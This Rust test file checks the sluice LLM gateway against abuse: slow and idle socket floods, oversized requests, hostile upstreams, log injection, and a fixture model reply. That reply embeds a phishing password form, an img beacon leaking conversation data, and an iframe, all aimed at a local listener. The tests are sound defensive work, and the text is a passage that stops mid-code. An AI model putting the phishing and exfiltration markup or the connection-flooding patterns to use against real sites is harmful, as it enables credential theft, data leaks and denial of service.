//! The threat model in one place: what one client (often without a key) or one upstream
//! could do to sluice, each attack made over real sockets, each asserting what its victim
//! sees. Connections, requests that cost too much, upstreams that misbehave, the browser,
//! and a property test throwing malformed requests at both chat surfaces.

mod connections;
mod costs;
mod streams;
mod upstreams;

use std::time::{Duration, Instant};

use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::startup::{Running, sluice};
use crate::support::{
    DEADLINE, FakeUpstream, REPLY_DEADLINE, TestApp, all_events, fixtures, payloads,
};

fn chat(model: &str, stream: bool) -> Value {
    json!({"model": model, "stream": stream, "max_tokens": 5,
        "messages": [{"role": "user", "content": "Hi"}]})
}

/// Reads until the server closes the connection; panics if it is still open at `deadline`.
async fn closed_by_server(mut socket: TcpStream, deadline: Duration) {
    let mut buf = [0u8; 4096];
    let result = tokio::time::timeout(deadline, async {
        loop {
            match socket.read(&mut buf).await {
                Ok(0) | Err(_) => return,
                Ok(_) => {}
            }
        }
    })
    .await;
    assert!(result.is_ok(), "sluice kept the connection open");
}

/// An OpenAI error body, with every field.
fn is_error_body(body: &Value) -> bool {
    ["message", "type", "param", "code"]
        .iter()
        .all(|f| body["error"].get(f).is_some())
        && body["error"]["message"].is_string()
}

// ---- Connections ------------------------------------------------------------------------

#[tokio::test]
async fn slow_and_idle_sockets_neither_block_others_nor_stay_open() {
    let _ = rlimit::increase_nofile_limit(u64::MAX);
    let app = TestApp::spawn_with(|c| c.header_timeout_ms = 1_000).await;
    // 500 that send nothing, 500 that start a request and send its headers a byte at a time.
    let mut idle = Vec::new();
    for _ in 0..500 {
        idle.push(TcpStream::connect(app.addr).await.expect("connects"));
    }
    let mut slow = Vec::new();
    for _ in 0..500 {
        let mut socket = TcpStream::connect(app.addr).await.expect("connects");
        socket
            .write_all(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\nx-slow: ")
            .await
            .expect("writes");
        slow.push(socket);
    }
    // A keep-alive connection that made one request and then idles.
    let mut kept = TcpStream::connect(app.addr).await.expect("connects");
    kept.write_all(b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n")
        .await
        .expect("writes");
    let mut head = [0u8; 12];
    kept.read_exact(&mut head).await.expect("an answer");
    assert_eq!(&head, b"HTTP/1.1 200");

    // While all of them are held, others are served at once.
    let started = Instant::now();
    let health = app
        .http
        .get(app.url("/healthz"))
        .send()
        .await
        .expect("answers");
    assert_eq!(health.status(), 200);
    let reply = app.post("/v1/chat/completions", &chat("mock", false)).await;
    assert_eq!(reply.status(), 200);
    eprintln!(
        "healthz and a chat with 1,000 slow sockets held: {:?}",
        started.elapsed()
    );
    assert!(started.elapsed() < DEADLINE);

    // The slow ones trickle on; sluice closes every one of them after the header limit.
    for socket in &mut slow {
        let _ = socket.write_all(b"a").await;
    }
    let deadline = Duration::from_secs(10);
    let all = idle.into_iter().chain(slow).chain([kept]);
    futures::future::join_all(all.map(|s| closed_by_server(s, deadline))).await;
    // A fresh client: the first one's pooled connection was closed as idle too.
    let fresh = TestApp {
        addr: app.addr,
        http: reqwest::Client::new(),
        operator: None,
    };
    let closed = fresh.metric("sluice_idle_connections_closed_total").await;
    assert!(closed >= 500.0, "{closed} idle connections counted");
}

/// The binary under a descriptor limit of 256, with the given variables.
fn limited(vars: &[(&str, &str)]) -> Running {
    let mut command = std::process::Command::new("sh");
    command
        .arg("-c")
        .arg("ulimit -n 256 && exec \"$0\"")
        .arg(env!("CARGO_BIN_EXE_sluice"))
        .env_clear()
        .current_dir(env!("CARGO_MANIFEST_DIR"));
    let base = [
        ("SLUICE_ADDR", "127.0.0.1:0"),
        ("SLUICE_LOCAL_MODEL", "off"),
        ("SLUICE_MOCK_TOKENS_PER_S", "0"),
    ];
    for (name, value) in base.iter().chain(vars) {
        command.env(name, value);
    }
    Running::start_command(command)
}

#[tokio::test]
async fn with_256_descriptors_300_idle_sockets_do_not_stop_it() {
    let _ = rlimit::increase_nofile_limit(u64::MAX);
    // Once with the connection cap it derives from the limit, once with a cap set too high
    // for it: then accepts fail, and are backed off and counted rather than retried hot.
    // The second keeps idle sockets for 3 s, so all 300 are open at once and some accepts
    // must fail.
    for (vars, errors_expected) in [
        (&[("SLUICE_HEADER_TIMEOUT_MS", "1000")][..], false),
        (
            &[
                ("SLUICE_MAX_CONNECTIONS", "5000"),
                ("SLUICE_HEADER_TIMEOUT_MS", "3000"),
            ][..],
            true,
        ),
    ] {
        let sluice = limited(vars);
        let addr = sluice.addr.clone();
        let mut idle = Vec::new();
        for _ in 0..300 {
            idle.push(TcpStream::connect(&addr).await.expect("connects"));
        }
        let http = reqwest::Client::new();
        let started = Instant::now();
        let health = tokio::time::timeout(Duration::from_secs(15), async {
            http.get(sluice.url("/healthz")).send().await
        })
        .await
        .expect("an answer within the limit")
        .expect("answers");
        assert_eq!(health.status(), 200);
        let chat = http
            .post(sluice.url("/v1/chat/completions"))
            .json(&chat("mock", false))
            .send()
            .await
            .expect("answers");
        assert_eq!(chat.status(), 200);
        eprintln!(
            "256 descriptors, cap {vars:?}: healthz after {:?}",
            started.elapsed()
        );
        drop(idle);
        let running = TestApp {
            addr: sluice.addr.parse().expect("an address"),
            http: reqwest::Client::new(),
            operator: None,
        };
        let errors = running.metric("sluice_accept_errors_total").await;
        if errors_expected {
            assert!(
                (1.0..100.0).contains(&errors),
                "accept errors: {errors} (none, or a hot loop)"
            );
        } else {
            assert_eq!(
                errors, 0.0,
                "the derived cap should keep accepts within the limit"
            );
        }
    }
}

#[tokio::test]
async fn a_declared_body_over_the_limit_is_refused_before_it_is_sent() {
    let app = TestApp::spawn().await;
    for expect in [false, true] {
        let mut socket = TcpStream::connect(app.addr).await.expect("connects");
        let head = format!(
            "POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 99999999\r\n{}\r\n",
            if expect {
                "expect: 100-continue\r\n"
            } else {
                ""
            }
        );
        socket.write_all(head.as_bytes()).await.expect("writes");
        let mut answer = vec![0u8; 4096];
        let n = tokio::time::timeout(DEADLINE, socket.read(&mut answer))
            .await
            .expect("an answer without the body")
            .expect("reads");
        let answer = String::from_utf8_lossy(&answer[..n]);
        assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
        assert!(!answer.contains("100 Continue"), "{answer}");
        assert!(answer.contains("payload_too_large"), "{answer}");
    }
    // A body that never arrives ends with 408 at the limit, not a wait forever.
    let app = TestApp::spawn_with(|c| c.header_timeout_ms = 300).await;
    let mut socket = TcpStream::connect(app.addr).await.expect("connects");
    socket
        .write_all(b"POST /v1/chat/completions HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{\"mo")
        .await
        .expect("writes");
    let mut answer = vec![0u8; 4096];
    let n = tokio::time::timeout(DEADLINE, socket.read(&mut answer))
        .await
        .expect("an answer")
        .expect("reads");
    let answer = String::from_utf8_lossy(&answer[..n]);
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
}

// ---- HTTP/2 -----------------------------------------------------------------------------

pub(super) type H2Body = http_body_util::Full<bytes::Bytes>;

pub(super) fn h2_chat(model: &str, prompt: &str) -> hyper::Request<H2Body> {
    let body = json!({"model": model, "stream": true, "max_tokens": 20,
        "messages": [{"role": "user", "content": prompt}]});
    hyper::Request::post("/v1/chat/completions")
        .header("content-type", "application/json")
        .body(H2Body::new(body.to_string().into()))
        .expect("a request")
}

#[tokio::test]
async fn twenty_streams_share_one_h2c_connection_and_a_reset_one_cancels_its_upstream() {
    use http_body_util::BodyExt;
    let upstream = FakeUpstream::spawn().await;
    let app = TestApp::in_front_of_with(&upstream, |c| {
        c.mock_tokens_per_s = 20.0;
        c.max_streams = 32;
    })
    .await;
    let tcp = TcpStream::connect(app.addr).await.expect("connects");
    let (sender, connection) = hyper::client::conn::http2::handshake(
        hyper_util::rt::TokioExecutor::new(),
        hyper_util::rt::TokioIo::new(tcp),
    )
    .await
    .expect("an HTTP/2 connection by prior knowledge");
    tokio::spawn(connection);

    // One stream to the fake upstream (slow: 10 s of tokens), nineteen to the mock (1 s).
    let mut reset = sender
        .clone()
        .send_request(h2_chat("slow", "reset me"))
        .await
        .expect("an answer");
    assert_eq!(reset.status(), 200);
    assert_eq!(reset.version(), hyper::Version::HTTP_2);
    let others: Vec<_> = (0..19)
        .map(|i| {
            let mut sender = sender.clone();
            async move {
                let response = sender
                    .send_request(h2_chat("mock", &format!("stream {i}")))
                    .await
                    .expect("an answer");
                assert_eq!(response.status(), 200);
                let body = response.into_body().collect().await.expect("a body");
                String::from_utf8_lossy(&body.to_bytes()).into_owned()
            }
        })
        .collect();
    let others = tokio::spawn(futures::future::join_all(others));

    // The reset stream has started; dropping its body sends RST_STREAM.
    let first = reset
        .body_mut()
        .frame()
        .await
        .expect("a frame")
        .expect("data");
    assert!(first.is_data());
    drop(reset);
    upstream.closed(1).await;

    let bodies = tokio::time::timeout(REPLY_DEADLINE, others)
        .await
        .expect("the others finish")
        .expect("the task ran");
    assert_eq!(bodies.len(), 19);
    for body in bodies {
        assert!(body.trim_end().ends_with("data: [DONE]"), "{body}");
    }
}

#[tokio::test]
async fn https_offers_http2_and_http1_by_alpn() {
    let cert = rcgen::generate_simple_self_signed(vec!["localhost".into()]).expect("a cert");
    let dir = std::env::temp_dir().join(format!("sluice-tls-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let (cert_path, key_path) = (dir.join("cert.pem"), dir.join("key.pem"));
    std::fs::write(&cert_path, cert.cert.pem()).expect("write cert");
    std::fs::write(&key_path, cert.signing_key.serialize_pem()).expect("write key");
    let app = TestApp::spawn_with(|c| {
        c.tls_cert = Some(cert_path);
        c.tls_key = Some(key_path);
    })
    .await;
    let url = format!("https://localhost:{}/v1/chat/completions", app.addr.port());
    let root = reqwest::Certificate::from_pem(cert.cert.pem().as_bytes()).expect("PEM");
    for (client, version) in [
        (reqwest::Client::builder(), reqwest::Version::HTTP_2),
        (
            reqwest::Client::builder().http1_only(),
            reqwest::Version::HTTP_11,
        ),
    ] {
        let client = client
            .tls_certs_only([root.clone()])
            .resolve("localhost", app.addr)
            .build()
            .expect("a client");
        let response = client
            .post(&url)
            .json(&chat("mock", true))
            .send()
            .await
            .expect("answers over TLS");
        assert_eq!(response.status(), 200);
        assert_eq!(response.version(), version);
        let events = payloads(&all_events(response).await);
        assert_eq!(events.last(), Some(&json!("[DONE]")));
    }
}

// ---- Requests that cost too much --------------------------------------------------------

#[tokio::test]
async fn model_names_cannot_grow_the_metrics() {
    let upstream = FakeUpstream::spawn().await;
    let app = TestApp::in_front_of_with(&upstream, |c| {
        c.rpm = 3;
        c.metrics_token = Some("scrape-secret".into());
    })
    .await;
    // Over 256 bytes: a 400 naming the field, before anything else.
    let long = "m".repeat(100 * 1024);
    for _ in 0..20 {
        let response = app.post("/v1/chat/completions", &chat(&long, true)).await;
        assert_eq!(response.status(), 400);
        let body: Value = response.json().await.expect("JSON");
        assert_eq!(body["error"]["param"], "model", "{body}");
    }
    let body = json!({"prompt": "Hi", "model": long});
    assert_eq!(app.post("/api/chat", &body).await.status(), 400);

    // Names the upstream does not list are one `other` label; refusals are not labelled.
    for name in ["made-up-1", "made-up-2", "gpt-test"] {
        let response = app.post("/v1/chat/completions", &chat(name, false)).await;
        assert_eq!(response.status(), 200, "{name}");
    }
    let refused = app
        .post("/v1/chat/completions", &chat("made-up-3", false))
        .await;
    assert_eq!(refused.status(), 429);

    // /metrics wants its token.
    let open = app
        .http
        .get(app.url("/metrics"))
        .send()
        .await
        .expect("answers");
    assert_eq!(open.status(), 401);
    let ready = app
        .http
        .get(app.url("/readyz"))
        .send()
        .await
        .expect("answers");
    assert_eq!(ready.status(), 401);
    let text = app
        .http
        .get(app.url("/metrics"))
        .bearer_auth("scrape-secret")
        .send()
        .await
        .expect("answers")
        .text()
        .await
        .expect("text");
    assert!(text.len() < 64 * 1024, "{} bytes of metrics", text.len());
    assert!(
        !text.contains("mmmm") && !text.contains("made-up"),
        "{text}"
    );
    assert!(
        text.contains("sluice_completion_tokens_total{model=\"other\"}"),
        "{text}"
    );
    assert!(
        text.contains("sluice_completion_tokens_total{model=\"gpt-test\"}"),
        "a listed model keeps its name: {text}"
    );
    assert!(
        text.contains(
            "sluice_requests_total{route=\"/v1/chat/completions\",model=\"\",status=\"429\"} 1"
        ),
        "{text}"
    );
}

#[tokio::test]
async fn a_million_spaces_get_a_normal_answer() {
    let app = TestApp::spawn().await;
    let body = json!({"model": "mock", "max_tokens": 3,
        "messages": [{"role": "user", "content": " ".repeat(1_000_001)}]});
    let response = app.post("/v1/chat/completions", &body).await;
    assert_eq!(response.status(), 200);
    let reply: Value = response.json().await.expect("a completion");
    assert!(
        reply["usage"]["prompt_tokens"].as_u64().unwrap_or(0) > 0,
        "{reply}"
    );
}

/// Median of a sample of durations.
fn median(mut sample: Vec<Duration>) -> Duration {
    sample.sort();
    sample[sample.len() / 2]
}

/// A victim's chat latency (p50 of 40), quiet and then while four other keys send `attack`
/// to `path` back to back (bounded in count and time); and how many attacks were answered.
pub(super) async fn victim_under(path: &str, attack: String) -> (Duration, Duration, usize) {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};
    let app = TestApp::spawn_with(|c| {
        c.api_keys = ["victim", "a1", "a2", "a3", "a4"]
            .map(String::from)
            .to_vec();
        c.rpm = 100_000;
    })
    .await;
    let sample = || async {
        let mut sample = Vec::new();
        for _ in 0..40 {
            let started = Instant::now();
            let answer = app
                .http
                .post(app.url("/v1/chat/completions"))
                .bearer_auth("victim")
                .json(&chat("mock", false))
                .send()
                .await;
            assert_eq!(answer.expect("answers").status(), 200);
            sample.push(started.elapsed());
        }
        median(sample)
    };
    let quiet = sample().await;
    let stop = Instant::now() + Duration::from_secs(30);
    let answered = Arc::new(AtomicUsize::new(0));
    let attackers: Vec<_> = ["a1", "a2", "a3", "a4"]
        .into_iter()
        .map(|key| {
            let (http, url, attack, answered) = (
                app.http.clone(),
                app.url(path),
                attack.clone(),
                answered.clone(),
            );
            tokio::spawn(async move {
                while answered.load(Ordering::Relaxed) < 400 && Instant::now() < stop {
                    let _ = http
                        .post(&url)
                        .bearer_auth(key)
                        .header("content-type", "application/json")
                        .body(attack.clone())
                        .send()
                        .await;
                    answered.fetch_add(1, Ordering::Relaxed);
                }
            })
        })
        .collect();
    // The attack is going: each attacker has had an answer.
    while answered.load(Ordering::Relaxed) < 4 {
        assert!(Instant::now() < stop, "the attack never got an answer");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let loaded = sample().await;
    futures::future::join_all(attackers).await;
    (quiet, loaded, answered.load(Ordering::Relaxed))
}

/// Under attack within 2x of quiet; on a shared 2-core machine a few milliseconds of noise
/// are allowed.
pub(super) fn unslowed(quiet: Duration, loaded: Duration) -> bool {
    loaded <= (quiet * 2).max(quiet + Duration::from_millis(15))
}

#[tokio::test]
async fn four_clients_sending_megabyte_prompts_do_not_slow_a_fifth() {
    let attack = json!({"model": "mock", "max_tokens": 1,
        "messages": [{"role": "user", "content": "!".repeat(1_000_000)}]})
    .to_string();
    let (quiet, loaded, sent) = victim_under("/v1/chat/completions", attack).await;
    eprintln!("victim p50: quiet {quiet:?}, under attack {loaded:?} ({sent} attack requests)");
    assert!(
        unslowed(quiet, loaded),
        "quiet {quiet:?}, under attack {loaded:?}"
    );
}

#[tokio::test]
async fn token_arithmetic_cannot_wrap() {
    let app = TestApp::spawn_with(|c| c.tpm = Some(1000)).await;
    let mut body = chat("mock", false);
    body["max_tokens"] = json!(4_294_967_295_u64);
    let response = app.post("/v1/chat/completions", &body).await;
    assert_eq!(response.status(), 400);
    let error: Value = response.json().await.expect("JSON");
    assert_eq!(error["error"]["param"], "max_tokens", "{error}");
    let mut body = chat("mock", false);
    body["max_completion_tokens"] = json!(4_000_000_000_u64);
    let error = app.post_json("/v1/chat/completions", &body).await;
    assert_eq!(error["error"]["param"], "max_completion_tokens", "{error}");

    // An upstream's huge usage neither wraps nor is believed: it is held to a bound of what
    // was sent, and the total adds up.
    let upstream = FakeUpstream::spawn().await;
    let app = TestApp::in_front_of(&upstream).await;
    let reply = app
        .post_json("/v1/chat/completions", &chat("huge-usage", false))
        .await;
    let usage = &reply["usage"];
    let prompt = usage["prompt_tokens"].as_u64().expect("a count");
    assert!(prompt < 100_000, "{reply}");
    assert_eq!(
        usage["total_tokens"].as_u64(),
        Some(prompt + usage["completion_tokens"].as_u64().expect("a count")),
        "{reply}"
    );
}

// ---- Upstreams that misbehave -----------------------------------------------------------

#[tokio::test]
async fn a_redirecting_upstream_gets_nothing_followed() {
    let upstream = FakeUpstream::spawn().await;
    let elsewhere = FakeUpstream::spawn().await;
    let port = elsewhere
        .base_url()
        .split(':')
        .nth(2)
        .unwrap_or_default()
        .split('/')
        .next()
        .unwrap_or_default()
        .to_owned();
    let app = TestApp::in_front_of(&upstream).await;
    for stream in [true, false] {
        let response = app
            .post(
                "/v1/chat/completions",
                &chat(&format!("redirect-{port}"), stream),
            )
            .await;
        assert_eq!(response.status(), 502);
        let body: Value = response.json().await.expect("JSON");
        assert!(
            body["error"]["message"]
                .as_str()
                .unwrap_or_default()
                .contains("307"),
            "{body}"
        );
    }
    assert!(elsewhere.requests().is_empty(), "a redirect was followed");
}

#[tokio::test]
async fn oversized_upstream_answers_are_read_within_caps() {
    let upstream = FakeUpstream::spawn().await;
    let app = TestApp::in_front_of_with(&upstream, |c| c.max_reply_bytes = 1024 * 1024).await;

    // A 500 with a 400 MiB body: a 502 at once, and only the start of the body is read.
    let started = Instant::now();
    let response = app
        .post("/v1/chat/completions", &chat("status-500-huge", true))
        .await;
    assert_eq!(response.status(), 502);
    upstream.closed(1).await;
    let sent = upstream.sent_bytes();
    eprintln!(
        "500 with a 400 MiB body: answered in {:?}, {sent} bytes left the upstream",
        started.elapsed()
    );
    assert!(sent < 64 * 1024 * 1024, "{sent} bytes read");

    // A non-streamed reply past SLUICE_MAX_REPLY_BYTES: a clear error, upstream closed.
    let error = app
        .post_json("/v1/chat/completions", &chat("flood", false))
        .await;
    assert!(
        error["error"]["message"]
            .as_str()
            .unwrap_or_default()
            .contains("larger than the limit"),
        "{error}"
    );
    upstream.closed(2).await;

    // One 2 MiB and one 10 MiB SSE line: a protocol error, in linear time.
    for size in [2 * 1024 * 1024, 10 * 1024 * 1024] {
        let started = Instant::now();
        let (status, error) = stream_outcome(&app, &format!("long-line-{size}")).await;
        eprintln!("a {size}-byte line: {status} in {:?}", started.elapsed());
        assert!(started.elapsed() < Duration::from_secs(5));
        assert!(status == 502 || error.is_some(), "{status} {error:?}");
    }
    // Just under the cap is still a line.
    let (status, error) = stream_outcome(&app, &format!("long-line-{}", 1024 * 1024 - 256)).await;
    assert_eq!((status, error), (200, None));
}

/// The status of a streamed chat, and the error event it ended with, if any.
async fn stream_outcome(app: &TestApp, model: &str) -> (u16, Option<Value>) {
    let response = app.post("/v1/chat/completions", &chat(model, true)).await;
    let status = response.status().as_u16();
    if status != 200 {
        return (status, None);
    }
    let events = payloads(&all_events(response).await);
    (status, events.iter().find_map(|e| e.get("error").cloned()))
}

/// Resident memory of a process, from /proc.
fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap_or(0)
}

#[tokio::test]
async fn memory_goes_back_after_a_burst_of_large_replies() {
    let upstream = FakeUpstream::spawn().await;
    let base = upstream.base_url();
    let sluice = Running::start(&[
        ("OPENAI_BASE_URL", &base),
        ("SLUICE_MAX_REPLY_BYTES", "8388608"),
    ]);
    let pid = sluice.child.id();
    let http = reqwest::Client::new();
    let url = sluice.url("/v1/chat/completions");
    assert_eq!(
        http.post(&url)
            .json(&chat("mock", false))
            .send()
            .await
            .expect("answers")
            .status(),
        200
    );
    let before = rss_kib(pid);
    // Eight at once, each filling 8 MiB before the cap ends it.
    let burst = (0..8).map(|_| http.post(&url).json(&chat("flood", false)).send());
    for response in futures::future::join_all(burst).await {
        assert_eq!(response.expect("answers").status(), 502);
    }
    let peak = rss_kib(pid);
    // The burst held 64 MiB of replies at once. What stays is allocator bookkeeping and
    // pages shared with live objects (measured: 10-22 MiB); without giving memory back
    // (mimalloc's default delay), all of it stayed (RSS 80 -> 163 MiB for good).
    const SLACK_KIB: u64 = 32 * 1024;
    let deadline = Instant::now() + Duration::from_secs(20);
    let after = loop {
        let now = rss_kib(pid);
        if now <= before + SLACK_KIB || Instant::now() > deadline {
            break now;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    eprintln!("RSS: before {before} KiB, after the burst {peak} KiB, settled {after} KiB");
    assert!(
        after <= before + SLACK_KIB,
        "RSS stayed at {after} KiB (before: {before} KiB)"
    );
}

#[tokio::test]
async fn secrets_and_internals_stay_inside() {
    let upstream = FakeUpstream::spawn().await;
    let base = upstream
        .base_url()
        .replace("http://", "http://user:password@");
    let app =
        TestApp::in_front_of_with(&upstream, |c| c.openai_base_url = Some(base.clone())).await;
    let lists_at_start = upstream.model_lists();
    // Many anonymous readiness checks cost the upstream one probe, not one each.
    let checks = (0..200).map(|_| app.get_json("/readyz"));
    let answers = futures::future::join_all(checks).await;
    let text = answers[0].to_string();
    assert!(
        !text.contains("password") && !text.contains("user:"),
        "{text}"
    );
    assert_eq!(answers[0]["upstreams"][0]["reachable"], true, "{text}");
    let probes = upstream.model_lists() - lists_at_start;
    assert!(probes <= 2, "{probes} probes for 200 checks");

    // An upstream's 5xx body is logged, not relayed.
    let error = app
        .post_json("/v1/chat/completions", &chat("status-500-traceback", false))
        .await;
    let text = error.to_string();
    assert!(is_error_body(&error), "{text}");
    assert!(
        !text.contains("Traceback") && !text.contains("internal-host"),
        "{text}"
    );
    assert!(text.contains("500"), "{text}");

    // The start-up log masks credentials too.
    let sluice = Running::start(&[("OPENAI_BASE_URL", &base)]);
    assert!(
        sluice.early.iter().all(|l| !l.contains("password")),
        "{:?}",
        sluice.early
    );
    assert!(
        sluice.early.iter().any(|l| l.contains("***@")),
        "{:?}",
        sluice.early
    );
}

// ---- The browser -----------------------------------------------------------------------

#[tokio::test]
async fn model_output_cannot_restyle_phish_or_exfiltrate_and_other_sites_cannot_call() {
    use crate::browser::{LAST_REPLY, js, open_page, start_driver, type_and_send, wait_for_reply};
    let Some(driver) = start_driver() else { return };
    // A listener that records any request: the exfiltration target.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let exfil_port = listener.local_addr().expect("addr").port();
    listener.set_nonblocking(true).expect("nonblocking");
    let listener = tokio::net::TcpListener::from_std(listener).expect("tokio listener");
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = hits.clone();
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let _ = socket.write_all(b"HTTP/1.1 204 No Content\r\n\r\n").await;
        }
    });
    let reply = format!(
        "Look: <style>body {{ display: none }}</style>\
         <form action=\"http://127.0.0.1:{exfil_port}/steal\"><input type=\"password\" name=\"p\"><button>Log in</button></form>\
         <img src=\"http://127.0.0.1:{exfil_port}/exfil.png?conv=SECRET-CONVERSATION-DATA\">\
         <iframe src=\"http://127.0.0.1:{exfil_port}/frame\"></iframe>\
         ![chart](http://127.0.0.1:{exfil_port}/md.png) and [a link](https://example.com) done."
    );
    let path = fixtures("(?i)hostile", &reply);
    let app = TestApp::spawn_with(|c| c.mock_fixtures = Some(path)).await;

    // The page's own headers.
    let page = app.http.get(app.url("/")).send().await.expect("the page");
    let csp = page.headers()["content-security-policy"]
        .to_str()
        .unwrap_or_default()
        .to_owned();
    assert!(
        csp.contains("default-src 'self'") && csp.contains("frame-ancestors 'none'"),
        "{csp}"
    );
    assert_eq!(page.headers()["x-content-type-options"], "nosniff");
    assert_eq!(page.headers()["referrer-policy"], "no-referrer");
    assert_eq!(page.headers()["x-frame-options"], "DENY");

    let client = open_page(&driver, &app.url("/")).await;
    type_and_send(&client, "Something hostile please").await;
    wait_for_reply(&client, "done").await;
    let found = js(
        &client,
        &format!("const b = {LAST_REPLY}; return ['style','form','input','img','iframe','button'].filter(t => b.querySelector(t))"),
    )
    .await;
    assert_eq!(found, json!([]), "elements that survived");
    let link = js(
        &client,
        &format!("const a = [...{LAST_REPLY}.querySelectorAll('a')].find(a => a.textContent === 'a link'); return [a.target, a.rel]"),
    )
    .await;
    assert_eq!(link, json!(["_blank", "noopener noreferrer"]));
    let visible = js(
        &client,
        "return getComputedStyle(document.body).display !== 'none'",
    )
    .await;
    assert_eq!(visible, json!(true));
    // Whatever was going to load has loaded by the time the page has rendered a second
    // reply after it.
    type_and_send(&client, "and one more").await;
    wait_for_reply(&client, "one more").await;
    assert_eq!(
        hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "the listener was called"
    );

    // A page on another origin (another port) cannot call sluice's API from the browser.
    let other = FakeUpstream::spawn().await;
    client
        .goto(&format!("{}/models", other.base_url()))
        .await
        .expect("another origin");
    let outcome = js(
        &client,
        &format!(
            "return fetch('{}', {{method: 'POST', headers: {{'content-type': 'application/json'}}, body: '{{}}'}}).then(() => 'allowed', e => 'refused: ' + e.name)",
            app.url("/v1/chat/completions")
        ),
    )
    .await;
    assert!(
        outcome.as_str().unwrap_or_default().starts_with("refused"),
        "{outcome}"
    );
    client.close().await.expect("closes");
}

// ---- Smaller, all expected ---------------------------------------------------------------

#[tokio::test]
async fn request_ids_auth_schemes_and_limits_behave() {
    let upstream = FakeUpstream::spawn().await;
    let app = TestApp::in_front_of_with(&upstream, |c| {
        c.api_keys = vec!["sk-one".into()];
        c.max_streams = 1;
    })
    .await;
    // A forged request id is replaced, in the answer and upstream.
    let forged = "abc\" level=error msg=forged";
    let response = app
        .http
        .post(app.url("/v1/chat/completions"))
        .header("authorization", "bearer sk-one")
        .header("x-request-id", forged)
        .json(&chat("gpt-test", false))
        .send()
        .await
        .expect("answers");
    assert_eq!(
        response.status(),
        200,
        "a lower-case bearer scheme is accepted"
    );
    let id = response.headers()["x-request-id"]
        .to_str()
        .unwrap_or_default()
        .to_owned();
    assert_ne!(id, forged);
    assert_eq!(
        upstream.request(1).await.request_id.as_deref(),
        Some(id.as_str())
    );
    let long = "a".repeat(129);
    let response = app
        .http
        .get(app.url("/healthz"))
        .header("x-request-id", &long)
        .send()
        .await
        .expect("answers");
    assert_ne!(response.headers()["x-request-id"], long.as_str());
    let plain = app
        .http
        .get(app.url("/healthz"))
        .header("x-request-id", "req-1.2:3_x")
        .send()
        .await
        .expect("answers");
    assert_eq!(plain.headers()["x-request-id"], "req-1.2:3_x");

    // The per-client stream cap's 429 carries x-ratelimit-* like the others.
    let held = app
        .http
        .post(app.url("/v1/chat/completions"))
        .bearer_auth("sk-one")
        .json(&chat("hang-body", true))
        .send()
        .await
        .expect("answers");
    assert_eq!(held.status(), 200);
    let refused = app
        .http
        .post(app.url("/v1/chat/completions"))
        .bearer_auth("sk-one")
        .json(&chat("gpt-test", true))
        .send()
        .await
        .expect("answers");
    assert_eq!(refused.status(), 429);
    for header in [
        "x-ratelimit-limit-requests",
        "x-ratelimit-remaining-requests",
        "retry-after",
    ] {
        assert!(refused.headers().contains_key(header), "no {header}");
    }
    drop(held);

    // An unknown template names `template`.
    let error = app
        .http
        .post(app.url("/api/chat"))
        .bearer_auth("sk-one")
        .json(&json!({"prompt": "Hi", "model": "mock", "template": "no-such-template"}))
        .send()
        .await
        .expect("answers");
    assert_eq!(error.status(), 400);
    let error: Value = error.json().await.expect("JSON");
    assert_eq!(error["error"]["param"], "template", "{error}");
}

#[tokio::test]
async fn the_first_ten_minutes_logs_without_colour_and_templates_from_anywhere() {
    let dir = std::env::temp_dir().join(format!("sluice-cwd-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let mut command = sluice(&[
        ("SLUICE_ADDR", "127.0.0.1:0"),
        ("SLUICE_LOCAL_MODEL", "off"),
    ]);
    command.current_dir(&dir);
    let sluice = Running::start_command(command);
    assert!(
        sluice.early.iter().all(|l| !l.contains('\u{1b}')),
        "colour codes in a log that is not a terminal: {:?}",
        sluice.early
    );
    let prompts: Value = reqwest::get(sluice.url("/api/prompts"))
        .await
        .expect("answers")
        .json()
        .await
        .expect("JSON");
    let names: Vec<&str> = prompts["data"]
        .as_array()
        .map(|d| d.iter().filter_map(|p| p["name"].as_str()).collect())
        .unwrap_or_default();
    assert!(
        names.contains(&"summarize") && names.len() >= 4,
        "{prompts}"
    );
}

// ---- Malformed and extreme requests, generated ----------------------------------------

mod generated {
    use proptest::prelude::*;
    use serde_json::{Map, Value, json};

    use crate::support::TestApp;

    /// Any JSON value, a few levels deep, with extreme numbers and awkward strings.
    fn any_json() -> impl Strategy<Value = Value> {
        let leaf = prop_oneof![
            Just(Value::Null),
            any::<bool>().prop_map(Value::from),
            any::<i64>().prop_map(Value::from),
            any::<u64>().prop_map(Value::from),
            prop_oneof![Just(1e308), Just(-1e308), Just(5e-324), any::<f64>()]
                .prop_map(|f| serde_json::Number::from_f64(f).map_or(Value::Null, Value::Number)),
            ".{0,40}".prop_map(Value::from),
            prop_oneof![
                Just("\u{0}"),
                Just("\u{202e}"),
                Just("🎉"),
                Just("\\u0000"),
                Just("<script>")
            ]
            .prop_map(Value::from),
            (1usize..5000).prop_map(|n| Value::from("x".repeat(n))),
        ];
        leaf.prop_recursive(3, 24, 6, |inner| {
            prop_oneof![
                prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
                prop::collection::btree_map(".{0,12}", inner, 0..6)
